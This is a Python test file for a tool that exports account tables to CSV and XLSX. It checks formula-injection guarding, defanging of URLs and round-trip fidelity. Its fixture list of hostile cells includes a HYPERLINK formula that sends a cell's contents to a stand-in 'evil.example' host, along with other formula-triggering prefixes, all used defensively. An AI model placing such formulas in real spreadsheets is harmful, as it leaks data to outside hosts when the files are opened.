"""Exporting accounts: the round trip, formulas that do not run, cells that a spreadsheet keeps."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from kit import DATA, command

from demarche.case.case_tables import read_table, read_tree
from demarche.intake.export_table import account_table, as_csv, as_xlsx, defanged
from demarche.intake.import_sheet import ImportWanted, prepare_import
from demarche.kernel.formula_guard import formula_guarded, freed
from demarche.kernel.problems import InputError
from demarche.kernel.staging import write_files
from demarche.model.base import fields_of
from demarche.model.case import Account
from demarche.sheets.sheet_reader import read_sheet

SPECIMEN = DATA / "cases" / "specimen"
NASTY = (
    *("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-1+1", "@SUM(1,1)"),
    *("\t=1+1", "\r=1+1", " =1+1", "＝1+1", "0123", "1234567890123456789", "1e5", "00:12"),
    *("2001-12-14", "no", "TRUE", "#N/A", "a,b", 'a"b', "a\nb", "محمد", "\u202eabc", "😀"),
    *("3-4", "1/2", "007", "1.10", "$5", "%0A", "|x", '"=1+1"', "'=1+1"),
)
"""The cells that spreadsheets change or run, one of each kind."""


def case_with(folder: Path, names: tuple[str, ...] = NASTY) -> Path:
    """A case whose accounts have these display names."""
    folder.mkdir(parents=True)
    (folder / "case.yaml").write_text("accounts: accounts.csv\n")
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(["id", "url", "display_name"])
    for number, name in enumerate(names):
        row = [f"a{number}", f"https://t.me/specimen_{number:03}", name]
        writer.writerow(map(formula_guarded, row))
    (folder / "accounts.csv").write_text(out.getvalue(), encoding="utf-8", newline="")
    return folder


def accounts(folder: Path) -> list[dict[str, str]]:
    case = folder / "case.yaml"
    return read_table(case, read_tree(case), "accounts").rows


@pytest.mark.parametrize("form", ["csv", "xlsx"])
@pytest.mark.parametrize("defang", [False, True])
def test_the_specimen_comes_back_the_same(tmp_path: Path, form: str, defang: bool) -> None:
    table = account_table(SPECIMEN, defang=defang)
    sheet = tmp_path / f"a.{form}"
    sheet.write_bytes(as_csv(table) if form == "csv" else as_xlsx(table, "a"))
    done = prepare_import(ImportWanted(sheet, tmp_path / "case", {}))
    assert [problem for problem in done.problems if problem.severity == "error"] == []
    write_files(done.folder, done.files)
    before, after = accounts(SPECIMEN), accounts(tmp_path / "case")
    if not defang:
        assert after == before
    addresses = ("url", "posts")
    assert [{k: v for k, v in row.items() if k not in addresses} for row in after] == [
        {k: v for k, v in row.items() if k not in addresses} for row in before
    ]
    assert any("hxxps://x[.]com/" in row["url"] for row in after) is defang


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_nasty_cells_come_back_unchanged(tmp_path: Path, form: str) -> None:
    table = account_table(case_with(tmp_path / "case"))
    path = tmp_path / f"a.{form}"
    path.write_bytes(as_csv(table) if form == "csv" else as_xlsx(table, "a"))
    found = read_sheet(path)
    assert [row.cells[2] for row in found.rows[1:]] == list(NASTY)
    assert not any(row.marks for row in found.rows)


def test_no_cell_of_the_csv_begins_a_formula(tmp_path: Path) -> None:
    data = as_csv(account_table(case_with(tmp_path / "case"))).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(data, newline="")):
        for cell in row:
            assert not cell.startswith(("=", "-", "\t", "\r", "\n", "＝", "＋", "－"))
            if cell[:1] in ("+", "@"):
                assert cell[1:].replace("_", "").replace(".", "").replace(" ", "").isalnum()


@given(st.text(alphabet="'=+-@\t\r\n＝a1 (\"", max_size=12))
def test_guarding_is_undone_exactly(text: str) -> None:
    assert freed(formula_guarded(text)) == text


def test_names_and_numbers_stay_as_they_are() -> None:
    for text in ("+44 7700 900123", "+447700900123", "@specimen_a", "@specimen.a", "plain", ""):
        assert formula_guarded(text) == text


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("https://x.com/a.b?c=d.e", "hxxps://x[.]com/a.b?c=d.e"),
        ("http://t.me/a https://t.me/b", "hxxp://t[.]me/a hxxps://t[.]me/b"),
        ("t.me/specimen_a", "t[.]me/specimen_a"),
        ("@specimen.a", "@specimen.a"),
        ("+44 7700 900123", "+44 7700 900123"),
        ("tg://resolve?domain=specimen_a", "tg://resolve?domain=specimen_a"),
    ],
)
def test_defanged_addresses(text: str, wanted: str) -> None:
    assert defanged(text) == wanted


def test_the_same_accounts_give_the_same_bytes(tmp_path: Path) -> None:
    table = account_table(SPECIMEN)
    assert as_xlsx(table, "a") == as_xlsx(table, "a")


def test_what_a_spreadsheet_can_not_hold_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="a spreadsheet cell holds 32,767"):
        as_xlsx([["url"], ["x" * 40_000]], "a")
    with pytest.raises(InputError, match=r"accounts\[1\]\.url: U\+FFFF is not a valid character"):
        as_xlsx([["url"], ["a\uffff"]], "a")


def test_accounts_inline_and_cases_that_are_not_complete(tmp_path: Path) -> None:
    case = tmp_path / "case.yaml"
    case.write_text("title:\naccounts:\n  - {url: '0123', posts: [a, b]}\n")
    head, row = account_table(case)
    assert head[:4] == ["id", "url", "posts", "organisation"]
    assert sorted(head) == sorted(fields_of(Account))
    assert row == ["", "0123", "a b", *[""] * (len(head) - 3)]
    case.write_text("title: x\n")
    with pytest.raises(InputError, match="the case has no accounts"):
        account_table(case)


def test_the_command_overwrites_nothing(tmp_path: Path) -> None:
    folder = case_with(tmp_path / "case")
    done = command("export", folder, "--format", "csv")
    assert done.returncode == 0
    assert f"accounts-export.csv: {len(NASTY)} accounts" in done.stdout
    done = command("export", folder, "--format", "csv")
    assert done.returncode == 2
    assert "already exists; choose another file with `--out`" in done.stderr
    assert command("export", folder, "--out", tmp_path / "b.xlsx").returncode == 0
    shown = command("export", folder, "--format", "csv", "--out", "-").stdout
    assert shown.lstrip("\ufeff").startswith('"id","url","display_name"')
    assert command("export", tmp_path / "nothing").returncode == 2


@pytest.mark.conformance
def test_libreoffice_keeps_all_cells(tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed")
    table = account_table(case_with(tmp_path / "case"))
    path = tmp_path / "a.xlsx"
    path.write_bytes(as_xlsx(table, "a"))
    subprocess.run(
        [
            *(office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"),
            *("--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false"),
            *("--outdir", str(tmp_path / "out"), str(path)),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    text = (tmp_path / "out" / "a.csv").read_bytes().decode("utf-8-sig")
    kept = [row[2] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert kept == list(NASTY)
